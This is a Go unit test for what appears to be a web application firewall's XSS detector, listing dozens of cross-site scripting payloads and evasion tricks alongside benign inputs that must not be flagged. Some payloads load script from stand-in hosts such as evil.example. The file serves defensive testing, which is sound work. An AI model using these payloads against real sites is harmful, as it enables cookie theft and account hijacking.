package detect

import (
	"testing"

	"github.com/rampartwaf/rampart/internal/request"
)

func TestXSS(t *testing.T) {
	tests := []struct {
		name  string
		value string
		want  bool
	}{
		// markup
		{"script tag", "<script>alert(1)</script>", true},
		{"doctype with element declarations", `<!DOCTYPE note [<!ELEMENT note (#PCDATA)>]>`, false},
		{"doctype with an attribute list", `<!DOCTYPE note [<!ATTLIST note lang CDATA "en"> <!-- v1 --> <!ELEMENT note ANY>]><note>hi</note>`, false},
		{"doctype giving a handler a default", `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg/>`, true},
		{"doctype subset then a script", `<!DOCTYPE note [<!ELEMENT note ANY>]><script>alert(1)</script>`, true},
		{"script src unclosed", "<script src=//evil.example/x.js", true},
		{"svg onload", "<svg/onload=alert(1)>", true},
		{"unknown handler unclosed", "<x onxxx=1", true},
		{"handler after quote attr", `<img src="x"onerror="alert(1)">`, true},
		{"namespaced tag", `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`, true},
		{"iframe srcdoc", `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`, true},
		{"srcdoc any tag", `<p srcdoc=x>`, true},
		{"style expression", `<div style="width:expression(alert(1))">`, true},
		{"meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, true},
		{"link import", `<link rel=import href=//evil.example>`, true},
		{"link script", `<link href="xss.js" rel=stylesheet type="text/javascript">`, true},
		{"vml frame", `<v:vmlframe src="foo.example/sup.fml"/>`, true},
		{"svg file with a handler", `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg onload="alert(1)"/>`, true},
		{"doctype with markup in a literal", `<!DOCTYPE x SYSTEM "<script>alert(1)</script>">`, true},
		{"xml data island", `<XML SRC="xsstest.xml" ID=I></XML>`, true},
		{"data binding", `<span datasrc=#I datafld=C dataformatas=HTML></span>`, true},
		{"svg animate href", `<svg><set attributeName="href" to="javascript:alert(1)"/></svg>`, true},
		{"angular directive", `<div ng-click="x=1">`, true},
		{"vue handler", `<button @click="steal()">`, true},
		{"dom clobbering", `<img name=getElementById>`, true},
		{"fullwidth brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", true},
		{"utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", true},
		{"seven bit", "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be", true},
		{"libinjection fallback", `<<scr\0ipt/src=http://evil.example/x.js></script`, true},
		// attribute breakouts
		{"attribute breakout", `" onmouseover="alert(1)`, true},
		{"attribute breakout single", `' autofocus onfocus=alert(1) x='`, true},
		{"handler right after quote", `"onzoom=`, true},
		{"unquoted breakout", `x onload=alert(1)`, true},
		{"leading space handler", `  onload= `, true},
		{"formaction breakout", `'formaction=javascript:alert(1)`, true},
		{"style breakout", `' style=abc:expression(alert(1)) '`, true},
		// schemes
		{"javascript url", "javascript:alert(document.domain)", true},
		{"javascript url tab", "java\tscript:alert(1)", true},
		{"script close after template", `'}}</script>'"`, true},
		{"script close after json", `"});</script ><b>x`, true},
		{"lone script close", "</script>", false},
		{"script close in prose", "close it with </script> at the end", false},
		{"script close word", "x</scripts>", false},
		{"script close quoted in prose", `how to fix "</script>" in string`, false},
		{"script close in backticks", "Put the code right before the `</script>` tag.", false},
		{"script close after a call", "init();\n</script>", false},
		{"script close after a paren", "(foo)</script>", false},
		{"script close in a quoted breakout question", `Why does ')</script>' break my page?`, false},
		{"script close escaped advice", `Use "<\/script>" instead of "</script>"`, false},
		{"script close after quote and semicolon", `x";</script>`, true},
		{"javascript backslashed letters", `\j\a\v\ascri\pt\:prompt(1)`, true},
		{"windows path java", `C:\java\script\run.bat`, false},
		{"javascript href", `<a href="JaVaScRiPt:alert(1)">x</a>`, true},
		{"entity spelled scheme", "ja&Tab;vascript&colon;alert(1)", true},
		{"entity spelled scheme lower", "v&newline;b&tab;script&colon;:", true},
		{"javascript escapes", `javascript: \\\\t`, true},
		{"data html", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", true},
		{"data markup payload", "data: , <svg onload=alert(1)>", true},
		{"css url javascript", "x:url(javascript", true},
		{"moz binding", "-moz-binding:url(http://evil.example/xss.xml#xss)", true},
		{"mocha", `<IMG SRC="mocha:alert(1)">`, true},
		// JavaScript
		{"js string breakout", "'-alert(1)-'", true},
		{"js statement breakout", `";confirm(1)//`, true},
		{"template literal", "alert`1`", true},
		{"sink as value", "(alert)(1)", true},
		{"sink alias", "a=alert,a(1)", true},
		{"computed member concat", "window['ale'+'rt'](window['doc'+'ument']['dom'+'ain']);//", true},
		{"computed member escapes", `self['\x61\x6c\x65\x72\x74']('XSS')`, true},
		{"computed member regex source", "top[/al/.source+/ert/.source](1)", true},
		{"computed member comments", "self[/*foo*/'alert'/*bar*/](1)", true},
		{"document cookie read", "(document)[\"cookie\"]", true},
		{"document cookie", "document /*foo*/ . cookie", true},
		{"window location", "window.location", true},
		{"dom write", "';document.write(1)//", true},
		{"new function", "new Function('alert(1)')()", true},
		{"tagged call", "[].sort.call`${alert}1337`", true},
		{"jsfuck", "(![]+[])[+!+[]]", true},
		{"jsfuck form decoded", "(![] [])[ ! []]", true},
		{"angular escape", "{{constructor.constructor('alert(1)')()}}", true},
		{"angular eval", "{{$eval('x=alert(1)')}}", true},
		{"domain read in call", "...(document.domain)...", true},
		{"btoa probe", "btoa()", true},
		{"object html", "<object width=500 height=500 type=text/html><param name=url value=https://x.example>", true},
		{"angular prototype", "toString().constructor.prototype.charAt=[].join; [1,2]|orderBy:toString().constructor.fromCharCode(120,61,49)", true},
		{"iframe src", `<iframe src="https://x.example/phish"></iframe>`, true},

		// benign
		{"bold comment", "I <b>really</b> liked it", false},
		{"italic and link", `Hi <i>team</i>, see <a href="https://example.com/page?x=1">the docs</a>`, false},
		{"div markdown", "```html\n<div class=\"note\">hello</div>\n```", false},
		{"comparison", "a < b > c", false},
		{"math", "a<b>c", false},
		{"heart", "I <3 you", false},
		{"arrow", "step 1 --> step 2", false},
		{"styled span", `<span style="color:red">warning</span>`, false},
		{"style element", "<style>p { color: blue; }</style>", false},
		{"style url", `<div style="background-image:url(https://cdn.example.com/bg.png)">x</div>`, false},
		{"image", `<img src="/cat.png" alt="cat">`, false},
		{"data image", `<img src="data:image/png;base64,iVBORw0KGgo=">`, false},
		{"inline svg icon", `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0h24v24H0z"/></svg>`, false},
		{"doctype", "<!DOCTYPE html>", false},
		{"doctype of a note", `<?xml version="1.0"?><!DOCTYPE note><note>hi</note>`, false},
		{"plist file", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist version=\"1.0\">\n<dict>\n\t<key>CFBundleName</key>\n\t<string>Demo</string>\n</dict>\n</plist>\n", false},
		{"svg 1.1 file", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"no\"?>\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"24\" height=\"24\" viewBox=\"0 0 24 24\"><path d=\"M0 0h24v24H0z\"/></svg>\n", false},
		{"doctype with a system dtd", `<!DOCTYPE config SYSTEM "config.dtd"><config/>`, false},
		{"xml declaration", `<?xml version="1.0" encoding="UTF-8"?><note>hi</note>`, false},
		{"meta charset", `<meta charset="utf-8">`, false},
		{"link icon", `<link rel="shortcut icon" href="https://example.com/favicon.ico">`, false},
		{"search for script word", "for power, binary<script is incorrect", false},
		{"lone script word", "<script", false},
		{"jsx handler", "<a onClick={(e) => e.preventDefault()}>Hover me</a>", false},
		{"json escaped html", `{"v":"<p style=\"color:red;\">hi<\/p><br\/>"}`, false},
		{"prose alert", "Please alert(me) when it is done", false},
		{"prose confirm", "Reply (confirm) by Friday", false},
		{"prose javascript", "Learn javascript: a gentle guide", false},
		{"prose online", "we are online= ready", false},
		{"void link", "javascript:void(0)", false},
		{"url", "https://example.com/a?b=c&d=e", false},
		{"email", "Jane <jane@example.org>", false},
		{"json", `{"html":"<p>hi</p>","n":1}`, false},
		{"code sample", "function add(a, b) { return a + b; }", false},
		{"online word", "we are <em>online</em> now", false},
		{"python print", "print(x)", false},
		{"eval alone", "eval(", false},
		{"markdown image", "look ![](https://example.com/a.png) here", false},
		{"markdown empty image", "![]()", false},
		{"document word", "see document.pdf for details", false},
		{"this property", "this.value = 1", false},
		{"template placeholder", "Hello {{ user.name }}", false},
		{"chinese punctuation", "您好，很高兴为您服务。", false},
		{"cyrillic", "Привет мир", false},
		{"emoticons", ":-) <3 ;-)", false},
		{"random token", "2;3159108;34<!C,;h6?& a6OM-tl8im{WU$_XE=gRr6;4yR[Jk(Vp@hD`", false},
		{"graphql", "query { user(id: 1) { name } }", false},
		{"constructor word", "the constructor of the class", false},
		{"at handle", "ping @click-team on slack", false},
		{"dom code in post", "function onLoad() { document.getElementById('x').value = 1; }", false},
		{"console print prose", "use window.btoa() to encode it", false},
		{"input named location", `<input name="location" value="Paris">`, false},
		{"js var onload", "onload event fires after images load", false},
		{"base target", `<base target="_blank">`, false},
		{"empty object", `<object width="400" height="300"></object>`, false},
		{"local stylesheet", `<link rel="stylesheet" href="/css/site.css">`, false},
		{"prose about eval", "eval(x) is dangerous", false},
		{"prose constructor", "The call failed: constructor('abc') is not valid", false},
		{"char codes", "String.fromCharCode(72, 105)", false},
		{"html email", `<div dir="ltr">Hi,<br><br>Please find attached.<br>--<br><b>Jane</b><br><a href="mailto:jane@example.com">jane@example.com</a></div>`, false},
		{"outlook markup", `<p class="MsoNormal"><span lang="EN-US" style="font-size:11.0pt;font-family:&quot;Calibri&quot;,sans-serif">Hello</span></p>`, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := &request.Param{Source: request.SourceForm, Name: "comment", Value: tt.value}
			_, got := matchXSS(p, tt.value)
			if got != tt.want {
				t.Errorf("matchXSS(%q) = %v, want %v", tt.value, got, tt.want)
			}
		})
	}
	// A path segment naming a DOM property is a documentation page, not script.
	path := &request.Param{Source: request.SourcePath, Name: "path[2]", Value: "document.cookie"}
	if _, got := matchXSS(path, path.Value); got {
		t.Errorf("matchXSS(path %q) = true, want false", path.Value)
	}
}
